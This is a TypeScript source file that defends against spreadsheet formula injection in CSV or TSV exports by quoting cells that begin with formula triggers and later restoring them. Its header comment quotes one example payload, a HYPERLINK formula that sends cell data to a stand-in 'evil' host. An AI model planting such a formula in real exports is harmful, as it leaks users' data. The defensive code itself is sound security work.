/**
 * Spreadsheet formula injection (OWASP "CSV Injection"): a cell that starts with = + - @ (or a tab or CR,
 * which some spreadsheets skip before looking) is run as a formula when a CSV or TSV is opened, so a
 * glossary note such as `=HYPERLINK("http://evil/?"&A1,"click")` would leak data. OWASP's remedy is to
 * prefix such cells with a single quote, which spreadsheets show as text.
 *
 * To keep our own reader lossless, a cell that already starts with quotes followed by a trigger gets one
 * more quote, and `restoreCell` removes exactly one: "'=x" ↔ "=x" and "''=x" ↔ "'=x". Any other cell is
 * left alone both ways, so the scheme never changes text that was not neutralised.
 */
const NEEDS_QUOTE = /^'*[=+\-@\t\r]/;

export function neutralizeCell(s: string): string {
  return NEEDS_QUOTE.test(s) ? `'${s}` : s;
}

const NEUTRALIZED = /^'+[=+\-@\t\r]/;

/** Inverse of neutralizeCell, for files we wrote. */
export function restoreCell(s: string): string {
  return NEUTRALIZED.test(s) ? s.slice(1) : s;
}
